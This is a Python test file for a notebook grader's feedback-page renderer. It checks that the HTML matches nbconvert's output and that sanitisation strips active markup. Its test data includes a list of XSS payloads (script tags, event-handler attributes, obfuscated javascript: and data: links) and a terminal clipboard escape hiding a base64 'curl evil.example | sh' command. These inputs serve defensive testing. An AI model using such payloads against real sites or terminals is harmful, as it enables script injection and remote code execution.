"""feedback.html is written without nbconvert (fifteenth session) and is the page nbconvert's
template rendered before, byte for byte: on the benchmark's class, on the notebooks of the
feedback tests, and on seeded random markdown, printed text and outputs. The reference is
``tests/nbconvert_pages.py`` (nbconvert's exporter with the template the grader used).

One documented difference: a colour escape ``38`` or ``48`` with nothing after it (``ESC[38m``)
made nbconvert's ``ansi2html`` raise ``IndexError``, and the page fell back to the results
alone; grader.ansi ignores the code and the notebook is shown.
"""
from __future__ import annotations

import json
import random
import subprocess
import sys
from pathlib import Path

import pytest

from grader import feedback_html
from grader.ansi import ansi_to_html
from grader.files import inert_text
from grader.markdown_html import MarkdownToHTML, strip_files_prefix
from grader.models import SubmissionResult
from tests import nbconvert_pages as reference
from tests import notebooks as nbs
from tests import test_feedback_html as feedback_tests

ROOT = Path(__file__).resolve().parent.parent


def outcome(render, *args, **kwargs) -> tuple[str | None, str | None]:
    """(what ``render`` returns, None), or (None, the name of the exception it raises)."""
    try:
        return render(*args, **kwargs), None
    except Exception as exc:  # noqa: BLE001 - compared by name
        return None, type(exc).__name__


def assert_same_pages(renderer: feedback_html.FeedbackRenderer, cells: list[dict], *, label: str) -> None:
    """``renderer``'s page of ``cells`` (twice: written, then from the memo) is nbconvert's,
    with result blocks after every third cell, once what a terminal acts on is inert in both (as
    ``files.html_utf8`` writes a page; nbconvert keeps it raw, ``ansi_to_html`` does not); when
    nbconvert fails, ours fails the same way."""
    after = {i: f'<section class="grader-result">block {i}</section>' for i in range(0, len(cells), 3)}
    kwargs = dict(title=f"T <&> {label}", top="<p>top</p>", after=after)

    def written(render) -> tuple[str | None, str | None]:
        page, error = outcome(render, *([renderer] if render is reference.render_direct else []),
                              {"cells": cells}, **kwargs)
        return (None if page is None else inert_text(page)), error

    expected = written(reference.render_direct)
    for _ in range(2):
        assert written(renderer.render) == expected, label


# --------------------------------------------------------------------------- notebooks


def test_the_benchmark_class_gets_nbconvert_pages(tmp_path):
    sys.path.insert(0, str(ROOT / "benchmarks"))
    try:
        import bench_grading
    finally:
        sys.path.remove(str(ROOT / "benchmarks"))
    kinds = bench_grading.write_class(tmp_path, 100)
    assert set(kinds.values()) == {kind for kind, _ in bench_grading.MIX}  # every kind of submission
    renderer = feedback_html.FeedbackRenderer()
    rendered = 0
    for path in sorted(tmp_path.glob("*.ipynb")):
        try:
            cells = feedback_html.read_cells(path)
        except feedback_html.NotebookUnavailable:
            continue  # broken JSON: the results page, no notebook
        assert_same_pages(renderer, cells, label=path.name)
        rendered += 1
    assert rendered >= 90


def feedback_test_notebooks() -> list[dict]:
    """The notebooks the feedback tests write (and the example class's)."""
    return [nbs.notebook(feedback_tests.course_cells()), feedback_tests.hostile_notebook(),
            feedback_tests.pwn_notebook(), nbs.course_notebook(extra_cells=nbs.imdb_cells()),
            nbs.alt_notebook(), nbs.notebook([]), *(feedback_tests.student_notebook(k) for k in range(4))]


def test_the_feedback_tests_notebooks_get_nbconvert_pages(tmp_path):
    renderer = feedback_html.FeedbackRenderer()
    written = [nbs.write(tmp_path / f"f{k}.ipynb", nb) for k, nb in enumerate(feedback_test_notebooks())]
    written += nbs.write_example_class(tmp_path / "example")
    for path in written:
        if path.suffix == ".ipynb":
            try:
                cells = feedback_html.read_cells(path)
            except feedback_html.NotebookUnavailable:
                continue
            assert_same_pages(renderer, cells, label=path.name)


# --------------------------------------------------------------------------- random inputs

MARKDOWN_ATOMS = (
    "#", "# ", "## Heading", "#NoSpace", "###### six", "*", "**", "_", "__", "`", "``", "```", "```python\n",
    "```text\n", "```nosuchlanguage x\n", "```mermaid\n", "~~~", "~~", "$", "$$", "\\$", "\\\\[", "\\\\]",
    "\\\\(", "\\\\)", "\\begin{align}", "\\end{align}", "\\begin{equation*}", "\\end{equation*}", "\\begin{X}",
    "x_1", "a^2", "\\frac{a}{b}", "\n", "\n\n", "  ", "    ", "\t", "- ", "* ", "1. ", "3) ", "> ", "> > ",
    "| a | b |\n|---|:-:|\n| 1 | 2 |\n", "[link](http://example.org/a?b=1&c=2)", "[f](files/a.png)",
    "![img](files/b.png)", "![alt *t*](data:image/png;base64,AAAA)", "[js](javascript:alert(1))",
    "[d](data:text/html,<b>x</b>)", "<http://auto.example>", "http://bare.example/x", "me@example.org",
    "<b>", "</b>", "<i class=\"grader-ok\">", "<script>alert(1)</script>", "<div>", "</div>", "<br>",
    "<img src=x onerror=alert(1)>", "<style>p{}</style>", "<!-- c -->", "<table><tr><td>c</td></tr></table>",
    "&", "&amp;", "&#x41;", "&nosuch;", "<", ">", "\"", "'", "é", "✓", "漢字", "\u00a0", "\u200b", "🙂",
    "- [ ] task", "- [x] done", "term\n: definition", "---", "***", "___", "[r]: http://r.example\n", "[r]",
    "[^1]", "[^1]: note", "text", " word ", "\\", "\\*", "\\_", "$5 and $10", "US$", "cost: $3.50",
    "src=\"files/x\"", "href='/files/y'", "\r\n", "===", "Setext\n---",
)


def random_markdown(rng: random.Random) -> str:
    """Markdown of random pieces: headings, emphasis, lists, tables, links, images, inline HTML,
    scripts, fenced code with and without a language, maths inline and display and
    environments, dollar signs in prose, HTML specials, non-ASCII."""
    return "".join(rng.choice(MARKDOWN_ATOMS) for _ in range(rng.randint(0, 30)))


def nbconvert_markdown(source: str) -> str:
    """What nbconvert's lab template wrote for a markdown cell's ``source``, before the sanitiser."""
    from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath
    from nbconvert.filters.strings import strip_files_prefix as nbconvert_strip

    renderer = IPythonRenderer(escape=False, attachments={}, embed_images=False, path="",
                               anchor_link_text="¶", exclude_anchor_links=True)
    return nbconvert_strip(MarkdownWithMath(renderer=renderer).render(source))


def test_random_markdown_is_what_nbconvert_writes():
    ours = MarkdownToHTML()
    for seed in range(4000):
        source = random_markdown(random.Random(seed))
        mine = outcome(lambda text: strip_files_prefix(ours(text)), source)
        assert mine == outcome(nbconvert_markdown, source), (seed, source)


#: What a line of "plain words" is made of, and what is just outside it: emphasis, code, links,
#: HTML, entities, TeX, lists, setext and thematic breaks, URLs, tables, two spaces, a heading
#: without its space or with seven ``#``, a leading or trailing space, a line break.
PLAIN_PIECES = ("a", "Z", "x1", "(", ")", ",", ".", "?", " ", "### ", "# ", "###### ", "####### ",
                "#x", "*", "_", "`", "[a](b)", "<b>", "&amp;", "$x$", "1. ", "- ", "=", "---", "|",
                "http://e.org", "www.e.org", "  ", "\n", "\n\n", ":", "'", '"', "~~", "!")


def test_a_line_of_plain_words_is_written_without_the_parser_as_the_parser_writes_it(monkeypatch):
    """A heading or a one-line paragraph of plain words (``markdown_html._PLAIN_LINE``: a
    student's own markdown cell is most often one) is written without mistune: the HTML is the
    parser's and nbconvert's, and the parser is not called for it; every other text, however
    close, is still parsed."""
    from grader import markdown_html

    ours = MarkdownToHTML()
    parse = ours._markdown
    parsed: list[str] = []
    monkeypatch.setattr(ours, "_markdown", lambda text: parsed.append(text) or parse(text))
    fast = 0
    for seed in range(3000):
        rng = random.Random(seed)
        source = "".join(rng.choice(PLAIN_PIECES) for _ in range(rng.randint(1, 6)))
        if seed % 3 == 0:  # most of the class of plain lines: headings and words
            source = rng.choice(("", "# ", "### ", "###### ")) + " ".join(
                rng.choice(("My", "checks", "(student", "12)", "a.", "b,", "c?", "x1")) for _ in range(rng.randint(1, 5)))
        parsed.clear()
        html = ours(source)
        assert html == str(parse(source)), (seed, source)
        plain = markdown_html._PLAIN_LINE.fullmatch(source) is not None
        assert parsed == ([] if plain else [source]), (seed, source)
        if plain:
            fast += 1
            if fast % 10 == 0:  # nbconvert is slower: a sample
                assert strip_files_prefix(html) == nbconvert_markdown(source), (seed, source)
    assert fast > 600
    assert ours("### My checks (student 12)") == "<h3>My checks (student 12)</h3>\n"
    assert ours("Tests, done.") == "<p>Tests, done.</p>\n"


#: Markdown a hostile student writes to get markup through the TeX rules, fences, titles and
#: links (the fifteenth session's review): TeX delimiters around HTML, fence info strings and
#: titles with quotes, ``javascript:`` and ``data:`` links in several spellings.
HOSTILE_MARKDOWN = (
    "$<img src=x onerror=alert(1)>$", "$$</div><script>alert(1)</script>$$",
    "\\begin{x}<script>alert(1)</script>\\end{x}", "\\\\(<b onmouseover=x>\\\\)", "\\\\[<style>p{}</style>\\\\]",
    "$x$<script>a()</script>$y$", "```<b>\"onload=x\ncode\n```", "```python\" onmouseover=\"x\nx = 1\n```",
    "~~~ mermaid<script>\ngraph\n~~~", "```mermaid\n</pre><script>x()</script>\n```",
    "[a](http://x \"t\\\"onmouseover=x\")", "![i](data:image/png;base64,AAAA \"t\\\" onerror=x\")",
    "[a](JaVaScRiPt:alert(1))", "[a](java&#x09;script:alert(1))", "[a](&#100;ata:text/html,x)",
    "<a href=\"&#x64;ata:text/html,x\">d</a>", "<a href=\" data:x\">d</a>", "<a href=\"da\tta:x\">d</a>",
    "<form action=x><input name=p></form>", "<svg><script>x()</script></svg>", "<a title=\"x\" style=\"color:red\">s</a>",
    "<img src=\"data:image/svg+xml,<svg onload=x>\">", "[r]: javascript:x\n\n[r]",
)


def test_hostile_markdown_is_what_nbconvert_writes_and_keeps_no_active_markup():
    import html.parser

    class Elements(html.parser.HTMLParser):
        """Every element and attribute of a fragment."""

        def __init__(self) -> None:
            super().__init__(convert_charrefs=True)
            self.found: list[tuple[str, str, str]] = []

        def handle_starttag(self, tag, attrs):
            self.found += [(tag, name, value or "") for name, value in attrs] or [(tag, "", "")]

    ours = MarkdownToHTML()
    for source in HOSTILE_MARKDOWN:
        page = feedback_html.sanitize_html(strip_files_prefix(ours(source)))
        assert page == feedback_html.sanitize_html(nbconvert_markdown(source)), source
        elements = Elements()
        elements.feed(page)
        for tag, name, value in elements.found:
            assert tag in feedback_html._TAGS, (source, tag)
            assert name in ("", "href", "title", "src", "alt", "class"), (source, name)
            if name == "href":  # a relative link (``java%09script:``) is harmless
                scheme = "".join(c for c in value if c > " ").lower()
                assert not scheme.startswith(("javascript:", "vbscript:", "data:")), (source, value)
            if name == "src":
                assert value.startswith("data:image/png;base64,"), (source, value)

def test_a_missing_attachment_fails_as_it_failed_in_nbconvert():
    """A cell refers to an attachment the cleaned notebook lacks: both raise, the page falls back."""
    ours = MarkdownToHTML()
    source = "see ![pasted](attachment:image.png)"
    assert outcome(ours, source)[1] == outcome(nbconvert_markdown, source)[1] == "InvalidNotebook"


ANSI_CODES = ("0", "1", "4", "5", "7", "21", "22", "24", "27", "30", "31", "37", "39", "40", "42", "47", "49",
              "90", "93", "97", "100", "107", "38;5;3", "38;5;100", "38;5;240", "38;5;256", "48;5;9",
              "38;2;10;20;30", "48;2;1;2;300", "38;2;1", "38;7;1", "", "x", "-1", "99", "1;31", "0;1;4;7")


def random_printed(rng: random.Random) -> str:
    """Printed text with colour escapes (well formed, malformed, other commands), HTML specials,
    non-ASCII; never a bare ``38``/``48`` at the end of a sequence (see the module's docstring)."""
    pieces = ["\x1b[%sm" % rng.choice(ANSI_CODES) for _ in range(8)]
    pieces += ["\x1b[K", "\x1b[2J", "\x1b[\"m", "\x1b", "[31m", "x", "<b>", "&", "'", '"', "é ✓", "\n", "text ", " "]
    return "".join(rng.choice(pieces) for _ in range(rng.randint(0, 16)))


def test_random_printed_text_is_what_nbconvert_writes():
    """The same markup, but for what a terminal acts on (a lone ESC here), which nbconvert keeps raw."""
    from nbconvert.filters.ansi import ansi2html

    for seed in range(5000):
        text = random_printed(random.Random(seed))
        assert ansi_to_html(text) == inert_text(str(ansi2html(text))), (seed, text)


def test_printed_text_as_html_holds_nothing_a_terminal_acts_on():
    """``ansi_to_html`` dropped ``ESC [`` sequences and kept every other control character as the
    student printed it: an ``ESC ] 52`` (a terminal's clipboard written), a bell, a carriage return,
    a bidi override were in its HTML, safe only because ``files.html_utf8`` wrote the whole page
    after it. Its HTML is safe on its own now, and a browser reads the text nbconvert's markup
    gives (but for NUL and the C1 controls, which a browser reads as characters once they are
    references, as in ``html_utf8``). Before the fix: ESC, BEL, CR, U+202E, U+009B, NUL in it."""
    from nbconvert.filters.ansi import ansi2html

    from tests.test_hostile_s31 import _page_text

    shown = "a\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 \x1b[31mred\x1b[0m\r\nb\rc \u202eesrever\x1b(B"
    for printed in (shown, shown.replace("\x1b[31m", "").replace("\x1b[0m", "")):  # with colours, and without
        html = ansi_to_html(printed + "\x9b2J\x00")
        acted = sorted({c for c in html if c < " " and c not in "\t\n" or "\x7f" <= c <= "\x9f" or c == "\u202e"})
        assert acted == [], (printed, acted)
        assert _page_text(ansi_to_html(printed)) == _page_text(str(ansi2html(printed))), printed
    assert ansi_to_html("\x1b]0;title\x07<") == "&#x1b;]0;title&#x7;&lt;"


def test_a_colour_code_without_its_colour_is_ignored_where_nbconvert_failed():
    """The documented difference: nbconvert raised (the page lost the notebook); the text is
    shown, escaped, with the code ignored and the codes before it applied."""
    from nbconvert.filters.ansi import ansi2html

    for text in ("\x1b[38mred?\x1b[0m <b>", "\x1b[1;48mx", "a\x1b[31;38m b"):
        with pytest.raises(IndexError):
            ansi2html(text)
    assert ansi_to_html("\x1b[38mred?\x1b[0m <b>") == "red? &lt;b&gt;"
    assert ansi_to_html("\x1b[1;48mx") == '<span class="ansi-bold">x</span>'
    assert ansi_to_html("a\x1b[31;38m b") == 'a<span class="ansi-red-fg"> b</span>'


def random_output(rng: random.Random) -> dict:
    """One random output of a kept type (the notebook's JSON, before cleaning)."""
    kind = rng.choice(("stream", "stream", "error", "execute_result", "display_data"))
    if kind == "stream":
        return {"output_type": "stream", "name": rng.choice(("stdout", "stderr")), "text": random_printed(rng)}
    if kind == "error":
        return {"output_type": "error", "ename": "E", "evalue": "v",
                "traceback": [random_printed(rng) for _ in range(rng.randint(0, 3))]}
    data = {}
    for mime in rng.sample(feedback_html.KEPT_MIME, rng.randint(1, 3)):
        if mime.startswith("image/"):
            data[mime] = rng.choice(("iVBORw0KGgo=", "AAAA\nBBBB\n", "/9j/4AAQ"))
        elif mime == "text/html":
            data[mime] = rng.choice(("<b>x</b>", "<table class=\"dataframe\"><tr><td>1</td></tr></table>",
                                     "<script>alert(1)</script><i>i</i>", "a & b < c", "<div onclick=x>d</div>"))
        elif mime == "text/markdown":
            data[mime] = random_markdown(rng)
        else:
            data[mime] = random_printed(rng)
    out = {"output_type": kind, "data": data, "metadata": {}}
    if kind == "execute_result":
        out["execution_count"] = rng.choice((None, 1, 7))
    return out


def random_notebook(rng: random.Random) -> dict:
    """A notebook of random markdown and code cells with random outputs and execution counts."""
    cells = []
    for _ in range(rng.randint(0, 6)):
        if rng.random() < 0.4:
            cells.append(nbs.markdown_cell(random_markdown(rng)))
        else:
            code = rng.choice(("", "x = 1", "def f(a):\n    return a  # <b>\n", "print('é <&>')", "%time x\n!ls"))
            cells.append(nbs.code_cell(code, [random_output(rng) for _ in range(rng.randint(0, 4))],
                                       rng.choice((None, 1, 12))))
    if cells and rng.random() < 0.2:
        cells.append(dict(cells[0]))  # a cell repeated within the notebook
    return nbs.notebook(cells)


def test_random_notebooks_get_nbconvert_pages():
    renderer = feedback_html.FeedbackRenderer()
    for seed in range(300):
        nb = random_notebook(random.Random(seed))
        assert_same_pages(renderer, feedback_html.clean_cells(json.loads(json.dumps(nb))), label=f"seed {seed}")


def test_the_documented_difference_on_a_page(tmp_path):
    """A notebook printing ``ESC[38m`` is shown (it was not: nbconvert's filter raised), its
    text escaped; the page is the reference's once the bare code is taken out."""
    printed = "\x1b[38m<script>alert(1)</script> shown\n"
    nb = nbs.notebook([nbs.code_cell("print(1)", [nbs.stream(printed)], 1)])
    renderer = feedback_html.FeedbackRenderer()
    cells = feedback_html.clean_cells(nb)
    assert outcome(reference.render_direct, renderer, {"cells": cells}, title="T", top="", after={})[1] == "IndexError"
    page = renderer.render({"cells": cells}, title="T", top="", after={})
    assert "&lt;script&gt;alert(1)&lt;/script&gt; shown" in page and "<script>alert" not in page
    cells[0]["outputs"][0]["text"] = printed.replace("\x1b[38m", "")
    assert page == reference.render_direct(renderer, {"cells": cells}, title="T", top="", after={})


# --------------------------------------------------------------------------- no nbconvert


def test_writing_pages_imports_neither_nbconvert_nor_jinja2(tmp_path):
    """The grading process builds the renderer and writes pages (markdown, maths, fenced code,
    colours, HTML and markdown outputs, a fallback page) without importing nbconvert (0.8 s of
    CPU) or jinja2."""
    paths = [nbs.write(tmp_path / f"n{k}.ipynb", nb) for k, nb in enumerate(feedback_test_notebooks()[:5])]
    (tmp_path / "broken.ipynb").write_text("{", "utf-8")
    paths.append(tmp_path / "broken.ipynb")
    script = (
        "import sys\n"
        "from pathlib import Path\n"
        "from grader import feedback_html\n"
        "from grader.models import SubmissionResult\n"
        "feedback_html.default_renderer()\n"
        f"for name in {[str(p) for p in paths]!r}:\n"
        "    path = Path(name)\n"
        "    result = SubmissionResult(path.stem, name, 'graded', 0.0, 1.0, ())\n"
        "    feedback_html.write_feedback_html(result, notebook_path=path, out_path=path.with_suffix('.html'))\n"
        "print(sorted(m for m in sys.modules if m.split('.')[0] in ('nbconvert', 'jinja2', 'nbclient', 'zmq')))\n")
    done = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "[]"
    pages = [p.with_suffix(".html").read_text("utf-8") for p in paths]
    assert all(page.startswith("<!DOCTYPE html>") for page in pages)
    assert "jp-MarkdownCell" in pages[0] and "could not be shown" in pages[-1]
    assert SubmissionResult  # the script's import, checked here too


@pytest.mark.slow
def test_printed_text_costs_linear_time_in_its_escapes():
    """A hostile output: one escape sequence of n colour codes, and n sequences in a row. Taking
    each code from the front of a list (nbconvert's way) is quadratic in a long sequence.
    Signal: a scaling test (CPU at n and 8 n, tests/scaling.py), not seconds."""
    from tests.scaling import assert_linear

    assert_linear(ansi_to_html, lambda n: "\x1b[" + ";".join(["38;5;1"] * n) + "mx", 2000,
                  what="one sequence of n colour codes")
    assert_linear(ansi_to_html, lambda n: "\x1b[0m\x1b[31mx" * n, 2000, what="n sequences")
